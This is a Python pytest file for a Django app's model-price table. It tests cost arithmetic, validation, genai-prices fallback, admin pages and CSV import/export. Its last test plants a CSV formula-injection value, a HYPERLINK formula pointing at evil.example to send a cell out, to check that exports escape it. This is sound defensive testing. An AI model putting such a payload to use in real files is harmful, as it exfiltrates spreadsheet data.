"""Model prices: the admin-editable table, the pure cost arithmetic, and unknown-is-never-$0."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from typing import Any

import genai_prices
import pytest
import tablib
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from genai_prices import data_snapshot

from candidates.models import ModelPrice
from evalhub import reference_data
from runs.executors.candidate import CandidateSpec
from runs.executors.live.contracts import Usage
from runs.executors.live.executor import price_for
from runs.executors.live.pricing import Price, cost_usd
from tests.test_admin_forms import error_text

PRICE = Price(
    model="gpt-5.6-luna",
    input=Decimal("1.25"),
    cached_input=Decimal("0.125"),
    output=Decimal("10"),
    reasoning=Decimal("10"),
)


def make_price(**overrides: Any) -> ModelPrice:
    values: dict[str, Any] = {
        "model": "gpt-5.6-luna",
        "input_usd": Decimal("1.25"),
        "cached_input_usd": Decimal("0.125"),
        "output_usd": Decimal("10"),
        "reasoning_usd": Decimal("10"),
    }
    values.update(overrides)
    price = ModelPrice(**values)
    price.full_clean()
    price.save()
    return price


# --- the arithmetic (no database) ----------------------------------------------------------------


def test_an_unknown_price_is_an_unknown_cost_never_zero() -> None:
    assert cost_usd(Usage(input=1000, output=1000), None) is None


def test_each_kind_of_token_is_priced_once_at_its_own_rate() -> None:
    usage = Usage(input=1_000_000, cached_input=200_000, output=300_000, reasoning=100_000)

    # 800k uncached × $1.25 + 200k cached × $0.125 + 300k output × $10 + 100k reasoning × $10
    assert cost_usd(usage, PRICE) == pytest.approx(1.0 + 0.025 + 3.0 + 1.0, abs=1e-12)


def test_reasoning_has_its_own_rate() -> None:
    cheap_reasoning = Price("m", Decimal("0"), Decimal("0"), Decimal("10"), Decimal("1"))

    assert cost_usd(Usage(output=1_000_000, reasoning=1_000_000), cheap_reasoning) == pytest.approx(11.0)


def test_odd_counts_never_make_a_negative_cost() -> None:
    usage = Usage(input=100, cached_input=500, output=-10, reasoning=-1)

    assert cost_usd(usage, PRICE) == pytest.approx(500 * 0.125 / 1_000_000)


def test_a_known_price_with_no_tokens_costs_zero() -> None:
    assert cost_usd(Usage(), PRICE) == 0.0


# --- the table -------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_price_for_finds_a_model_ignoring_case_and_blanks() -> None:
    make_price(model="openrouter/z-ai/GLM-4.6", input_usd=Decimal("0.6"))

    price = price_for("  openrouter/z-ai/glm-4.6 ")

    assert price == Price("openrouter/z-ai/GLM-4.6", Decimal("0.6"), Decimal("0.125"), Decimal("10"), Decimal("10"))
    assert price_for("evalhub-no-such-model-9") is None
    assert price_for("") is None


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("input_usd", Decimal("-0.01"), "A price cannot be negative."),
        ("output_usd", Decimal("10000.01"), "almost surely a unit mix-up"),
        ("model", "   ", "Model must not be blank."),
        ("note", "key " + "sk-" + "proj-" + "FAKEfakeFAKE_0123456789-abcdefghijklmnop", "looks like it contains a secret"),
    ],
)
def test_a_bad_price_is_refused_with_a_clear_message(field: str, value: Any, message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        make_price(**{field: value})
    assert not ModelPrice.objects.exists()


@pytest.mark.django_db
def test_one_price_per_model_ignoring_case() -> None:
    make_price(model="gpt-5.6-luna")

    with pytest.raises(ValidationError, match="This model already has a price"):
        make_price(model="GPT-5.6-Luna")


@pytest.mark.django_db
def test_the_reference_load_writes_no_price_rows(reference_catalog) -> None:
    # Prices the team did not check are not written as if it had: the table stays empty and
    # the reference models are priced from genai-prices' shipped data, with that source.
    assert not ModelPrice.objects.exists()
    assert not (reference_data.DATA_DIR / "model-prices.json").exists()


# --- genai-prices, for a model without a row ---------------------------------------------------------


def shipped(reference: str, provider_id: str | None) -> Any:
    """The package's own current prices for a model, read through its snapshot."""
    provider, info = data_snapshot.get_snapshot().find_provider_model(reference, None, provider_id, None)
    return provider, info, info.get_prices(dt.datetime.now(dt.UTC))


def per_million(value: Any) -> Decimal:
    return Decimal(getattr(value, "base", value))


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("model", "reference", "provider_id"),
    [
        ("openrouter/z-ai/glm-4.5-air", "z-ai/glm-4.5-air", "openrouter"),
        ("openrouter/moonshotai/kimi-k2.5", "moonshotai/kimi-k2.5", "openrouter"),
        ("claude-sonnet-5", "claude-sonnet-5", None),
        ("GPT-5.6-Luna", "gpt-5.6-luna", None),
    ],
)
def test_a_model_without_a_row_is_priced_from_genai_prices_with_its_source(model: str, reference: str, provider_id: str | None) -> None:
    provider, info, prices = shipped(reference, provider_id)
    tiered = any(hasattr(value, "base") for value in (prices.input_mtok, prices.output_mtok, prices.cache_read_mtok))

    price = price_for(model)

    assert price is not None
    assert (price.input, price.output, price.reasoning) == (
        per_million(prices.input_mtok),
        per_million(prices.output_mtok),
        per_million(prices.output_mtok),  # reasoning is billed as output
    )
    assert price.cached_input == per_million(prices.cache_read_mtok if prices.cache_read_mtok is not None else prices.input_mtok)
    assert price.source == f"genai-prices {genai_prices.__version__} ({provider.id} {info.name}{'; base tier' if tiered else ''})"
    # A known cost, not the unknown that is counted at the budget's maximum.
    cost = cost_usd(Usage(input=2_000_000, cached_input=1_000_000, output=1_000_000, reasoning=0), price)
    assert cost == float(price.input + price.cached_input + price.output)


@pytest.mark.django_db
def test_the_price_table_wins_over_genai_prices() -> None:
    make_price(model="claude-sonnet-5", input_usd=Decimal("7"))

    price = price_for("claude-sonnet-5")

    assert price is not None and (price.input, price.source) == (Decimal("7"), "price table")


@pytest.mark.django_db
def test_a_tiered_price_uses_its_base_and_says_so() -> None:
    _, _, prices = shipped("gpt-5.6-luna", None)
    assert hasattr(prices.input_mtok, "base"), "the package no longer tiers this model: pick another tiered one"

    price = price_for("gpt-5.6-luna")

    assert price is not None and price.input == prices.input_mtok.base
    assert price.source.endswith("; base tier)")


@pytest.mark.django_db
def test_a_scripted_provider_is_never_priced_as_the_real_model(monkeypatch) -> None:
    """The scripted lane bills nothing: the executor passes no price and the session uses $0."""
    from runs.executors.base import ExecutionRequest
    from runs.executors.live import executor as live_executor
    from runs.executors.providers import scripted_provider

    seen: dict[str, Any] = {}

    def fake_run(**kwargs: Any) -> Any:
        seen.update(kwargs)
        raise RuntimeError("stop here")

    monkeypatch.setattr("runs.executors.live.session.run_live_execution", fake_run)
    monkeypatch.setattr(live_executor, "configured_binary", lambda runtime_key: "/bin/true")
    request = ExecutionRequest(
        run_id=1,
        entry={"executionId": "rwe-0000000000000001"},
        candidate=CandidateSpec.from_snapshot({"id": "codex-luna", "model": "gpt-5.6-luna", "adapter": "codex_app_server"}),
        case={"id": "final-response"},
        environment={"OPENAI_API_KEY": "x-scripted"},
        attempt=1,
        provider=scripted_provider("http://127.0.0.1:9/v1", wire_api="responses", env_key="OPENAI_API_KEY"),
    )
    with pytest.raises(RuntimeError, match="stop here"):
        live_executor.CodexAppServerExecutor().execute(request)
    assert seen["price"] is None
    assert price_for("gpt-5.6-luna") is not None  # while the real model has one


# --- the admin -------------------------------------------------------------------------------------


@pytest.fixture
def fast_hashing(settings) -> None:
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


PRICE_POST = {
    "model": "claude-sonnet-5",
    "input_usd": "3",
    "cached_input_usd": "0.3",
    "output_usd": "15",
    "reasoning_usd": "15",
    "note": "checked by hand",
}


@pytest.mark.django_db
def test_staff_add_and_list_prices_in_the_admin(fast_hashing, staff_client) -> None:
    response = staff_client.post(reverse("admin:candidates_modelprice_add"), PRICE_POST)

    assert response.status_code == 302, error_text(response)
    assert price_for("claude-sonnet-5") == Price("claude-sonnet-5", Decimal("3"), Decimal("0.3"), Decimal("15"), Decimal("15"))
    listing = staff_client.get(reverse("admin:candidates_modelprice_changelist"))
    assert listing.status_code == 200
    assert b"claude-sonnet-5" in listing.content


@pytest.mark.django_db
def test_a_negative_price_is_a_form_error_in_the_admin(fast_hashing, staff_client) -> None:
    response = staff_client.post(reverse("admin:candidates_modelprice_add"), {**PRICE_POST, "output_usd": "-1"})

    assert response.status_code == 200
    assert "A price cannot be negative." in error_text(response)
    assert not ModelPrice.objects.exists()


# --- CSV import and export (django-import-export) ---------------------------------------------------

CSV_HEADER = "model,input_usd,cached_input_usd,output_usd,reasoning_usd,note\n"


def import_prices(text: str, *, dry_run: bool = False) -> Any:
    from candidates.admin import ModelPriceResource

    return ModelPriceResource().import_data(tablib.Dataset().load(text, format="csv"), dry_run=dry_run)


@pytest.mark.django_db
def test_prices_import_from_csv_and_a_reimport_updates_rows_ignoring_case() -> None:
    result = import_prices(CSV_HEADER + "claude-sonnet-5,3,0.3,15,15,checked\nopenrouter/z-ai/glm-4.6,0.6,0.11,2.2,2.2,\n")
    assert not result.has_errors() and not result.has_validation_errors()
    assert ModelPrice.objects.count() == 2

    again = import_prices(CSV_HEADER + " Claude-Sonnet-5 ,4,0.4,16,16,rechecked\n")

    assert not again.has_errors() and not again.has_validation_errors()
    assert ModelPrice.objects.count() == 2
    row = ModelPrice.objects.get(model__iexact="claude-sonnet-5")
    assert (row.model, row.input_usd, row.output_usd, row.note) == ("Claude-Sonnet-5", Decimal("4"), Decimal("16"), "rechecked")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("gpt-5.6-luna,-1,0,1,1,", "A price cannot be negative."),
        ("gpt-5.6-luna,1,0,20000,1,", "almost surely a unit mix-up"),
        (" ,1,0,1,1,", "Model must not be blank."),
        ("gpt-5.6-luna,1,0,1,1,key " + "sk-" + "proj-" + "FAKEfakeFAKE_0123456789-abcdefghijklmnop", "looks like it contains a secret"),
    ],
)
def test_a_bad_csv_row_is_an_error_on_its_row_and_the_admin_offers_no_import(fast_hashing, staff_client, line: str, message: str) -> None:
    text = CSV_HEADER + "claude-sonnet-5,3,0.3,15,15,\n" + line + "\n"
    result = import_prices(text, dry_run=True)
    assert result.has_validation_errors()
    errors = " ".join(str(error) for row in result.invalid_rows for messages in row.error_dict.values() for error in messages)
    assert message in errors

    upload = SimpleUploadedFile("prices.csv", text.encode(), content_type="text/csv")
    preview = staff_client.post(reverse("admin:candidates_modelprice_import"), {"format": "0", "resource": "0", "import_file": upload})

    assert preview.status_code == 200
    assert message in preview.content.decode()
    assert preview.context.get("confirm_form") is None  # nothing to confirm: no row of the file is written
    assert not ModelPrice.objects.exists()
    assert "sk-proj-FAKE" not in preview.content.decode()  # a secret-shaped value is not echoed back


@pytest.mark.django_db
def test_staff_export_the_price_table_as_csv_from_the_admin(fast_hashing, staff_client) -> None:
    make_price(model="claude-sonnet-5", input_usd=Decimal("3"), note="checked")

    columns = ("model", "input_usd", "cached_input_usd", "output_usd", "reasoning_usd", "note")
    chosen = {f"modelpriceresource_{column}": "on" for column in columns}
    response = staff_client.post(reverse("admin:candidates_modelprice_export"), {"format": "0", "resource": "0", **chosen})

    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode().splitlines()
    assert lines[0] == CSV_HEADER.strip()
    assert lines[1].startswith("claude-sonnet-5,3")


@pytest.mark.django_db
def test_the_export_redacts_a_secret_written_around_validation() -> None:
    from candidates.admin import ModelPriceResource

    make_price(model="claude-sonnet-5")
    leaked = "key " + "sk-" + "proj-" + "FAKEfakeFAKE_0123456789-abcdefghijklmnop"
    ModelPrice.objects.update(note=leaked)  # around full_clean(), as loaddata would

    text = ModelPriceResource().export().csv

    assert "sk-proj-FAKE" not in text and "[REDACTED]" in text


@pytest.mark.django_db
def test_staff_import_a_price_csv_in_the_admin(fast_hashing, staff_client) -> None:
    upload = SimpleUploadedFile("prices.csv", (CSV_HEADER + "claude-sonnet-5,3,0.3,15,15,checked\n").encode(), content_type="text/csv")

    preview = staff_client.post(reverse("admin:candidates_modelprice_import"), {"format": "0", "resource": "0", "import_file": upload})

    assert preview.status_code == 200
    assert b"claude-sonnet-5" in preview.content and not ModelPrice.objects.exists()  # a preview first
    done = staff_client.post(reverse("admin:candidates_modelprice_process_import"), preview.context["confirm_form"].initial, follow=True)
    assert [str(message) for message in done.context["messages"]] == [
        "Import finished: 1 new, 0 updated, 0 deleted and 0 skipped model prices."
    ]
    assert ModelPrice.objects.get().output_usd == Decimal("15")


@pytest.mark.django_db
def test_the_candidate_form_shows_its_price_and_where_it_comes_from(fast_hashing, staff_client, reference_catalog) -> None:
    from candidates.models import Candidate

    luna = Candidate.objects.get(key="codex-luna")
    page = staff_client.get(reverse("admin:candidates_candidate_change", args=[luna.pk])).content.decode()
    assert f"genai-prices {genai_prices.__version__} (openai GPT-5.6 Luna; base tier)" in page

    make_price(model="gpt-5.6-luna", input_usd=Decimal("1.25"))
    page = staff_client.get(reverse("admin:candidates_candidate_change", args=[luna.pk])).content.decode()
    assert "$1.25 input" in page and "(price table)" in page


@pytest.mark.django_db
def test_the_admin_imports_csv_only_and_escapes_formulae_on_export(fast_hashing, staff_client) -> None:
    """A JSON upload of any shape used to reach the library's parser (a 500 for ``[{}]``); an
    exported cell a spreadsheet would run as a formula is escaped."""
    page = staff_client.get(reverse("admin:candidates_modelprice_import"))
    assert [label for _, label in page.context["form"].fields["format"].choices] == ["csv"]
    upload = SimpleUploadedFile("prices.json", b"[{}]", content_type="application/json")
    refused = staff_client.post(reverse("admin:candidates_modelprice_import"), {"format": "1", "resource": "0", "import_file": upload})
    assert refused.status_code == 200 and "Select a valid choice" in refused.content.decode()

    make_price(model="claude-sonnet-5", note='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    columns = ("model", "input_usd", "cached_input_usd", "output_usd", "reasoning_usd", "note")
    chosen = {f"modelpriceresource_{column}": "on" for column in columns}
    response = staff_client.post(reverse("admin:candidates_modelprice_export"), {"format": "0", "resource": "0", **chosen})
    row = response.content.decode().splitlines()[1]
    assert ',"=HYPERLINK' not in row and ",=HYPERLINK" not in row and "HYPERLINK" in row
